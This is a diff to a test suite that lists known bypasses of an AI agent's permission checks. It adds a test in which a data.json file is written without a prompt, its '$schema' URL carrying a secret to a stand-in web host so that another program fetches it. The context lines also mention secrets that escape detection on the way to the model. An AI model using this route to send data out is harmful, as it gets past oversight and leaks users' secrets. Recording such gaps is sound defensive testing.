@@ -63,6 +63,19 @@ describe('what is known to get through', function () {
   );
 
   knownBypass(
+    'a file that names an address for others to fetch, such as "$schema", is written without a question in the mode "edits"',
+    'any text may hold an address; VS Code fetches schemas from domains that it trusts, other programs do as they like',
+    async () => {
+      const { effects } = await attempt(
+        'edits',
+        ({ web }) => [write('data.json', `{"$schema":"${web}/schema?d=secret"}\n`)],
+        async () => {},
+      );
+      assert.deepEqual(effects, []);
+    },
+  );
+
+  knownBypass(
     'a secret that does not look like one reaches the model from an ordinary file',
     'keys are recognised by their shape, their name or as drawn by lot; a sentence is not',
     async () => {
